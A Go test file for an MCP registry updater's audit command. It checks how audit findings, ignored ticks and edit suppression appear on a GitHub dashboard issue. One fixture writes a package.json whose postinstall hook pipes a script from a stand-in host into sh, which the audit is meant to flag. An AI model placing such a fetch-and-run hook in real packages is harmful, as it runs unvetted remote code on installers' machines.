package main

import (
	"context"
	"strconv"
	"strings"
	"testing"

	"github.com/mcp-registry/updater/gitops/gittest"
	"github.com/mcp-registry/updater/updater"
	"github.com/mcp-registry/updater/updater/dashboard"
)

// TestAuditSectionOnDashboard: the weekly audit puts its new findings in
// its own section of the dashboard the pass wrote, leaves the pass's
// lines alone, unticks (and notes) a tick by a user without write access
// rather than making it the bot's own, writes nothing when nothing
// changed, and the next pass carries the section.
func TestAuditSectionOnDashboard(t *testing.T) {
	git := gittest.NewServer(t)
	tool := git.NewRepo("tool", "main")
	pin := tool.Commit("main", "init", gittest.Files(map[string]string{
		"package.json": "{\n  \"name\": \"x\",\n  \"scripts\": {\"postinstall\": \"curl -s https://x.example/i.sh | sh\"}\n}\n",
		"src/index.ts": "export const x = 1\n",
	}))
	f := customFixture(t, git, map[string]string{
		"tool":   serverYAML("tool", git.RepoURL("tool"), "", pin, ""),
		"broken": serverYAML("broken", gittest.ClosedURL(t, "http", "broken"), "", pin, ""),
	})
	f.gh.SetPermission("bob", "read")
	f.pass(exitFailed) // broken fails: a retry box
	f.tick("bob", dashboard.Retry, "broken")

	audit := func(wantCode int) {
		t.Helper()
		code, _, stderr := cli(context.Background(), f.env, "audit", "--registry", f.checkout(), "--cache-dir", f.cache, "--json")
		if code != wantCode {
			t.Fatalf("audit: exit %d, want %d\n%s", code, wantCode, stderr)
		}
	}
	audit(exitFailed) // a new high finding, and broken not audited
	is := f.dashboardIssue()
	sec := section(is.Body, updater.AuditSectionName)
	if !strings.Contains(sec, "tool: HIGH install-hook") || !strings.Contains(sec, "not audited: ") {
		t.Errorf("the audit's section:\n%s\nwant tool's install hook and broken not audited", sec)
	}
	if !strings.Contains(section(is.Body, "Failing"), "broken") {
		t.Errorf("the pass's lines were not kept:\n%s", is.Body)
	}
	if strings.Contains(is.Body, "[x]") || !strings.Contains(is.Body, "retry **broken**: ignored: edited by bob (read) without write access") {
		t.Errorf("bob's tick must be unticked and noted as ignored:\n%s", is.Body)
	}

	// The note on the ignored tick is for the edit it answered: the next
	// audit drops it (as the next pass would). Then nothing changes.
	audit(exitFailed)
	if strings.Contains(f.dashboardIssue().Body, "Ticks were ignored") {
		t.Errorf("the note on an answered tick stays:\n%s", f.dashboardIssue().Body)
	}
	f.gh.ResetLog()
	audit(exitFailed)
	if n := f.gh.Count("PATCH", "/repos/"+f.gh.Owner+"/"+f.gh.Repo+"/issues/"+strconv.Itoa(is.Number)); n != 0 {
		t.Errorf("an audit with nothing new edited the dashboard %d times", n)
	}

	f.pass(exitFailed)
	if sec := section(f.dashboardIssue().Body, updater.AuditSectionName); !strings.Contains(sec, "tool: HIGH install-hook") {
		t.Errorf("the next pass dropped the audit's section:\n%s", f.dashboardIssue().Body)
	}

	// An audit of one server is not the registry's: the section stays.
	f.gh.ResetLog()
	if code, _, stderr := cli(context.Background(), f.env, "audit", "--registry", f.checkout(), "--cache-dir", f.cache, "--server", "tool", "--json"); code != exitFailed ||
		f.gh.Count("PATCH", "/repos/"+f.gh.Owner+"/"+f.gh.Repo+"/issues/"+strconv.Itoa(is.Number)) != 0 {
		t.Errorf("audit --server tool: exit %d, or it rewrote the registry's audit section\n%s", code, stderr)
	}

	// --no-dashboard (and no credentials) leave the issue alone.
	f.gh.ResetLog()
	code, _, stderr := cli(context.Background(), f.env, "audit", "--registry", f.checkout(), "--cache-dir", f.cache, "--no-dashboard", "--json")
	if code != exitFailed || f.gh.Count("GET", "/repos/"+f.gh.Owner+"/"+f.gh.Repo+"/issues") != 0 {
		t.Errorf("audit --no-dashboard: exit %d, read the issues %d times\n%s", code, f.gh.Count("GET", "/repos/"+f.gh.Owner+"/"+f.gh.Repo+"/issues"), stderr)
	}
}
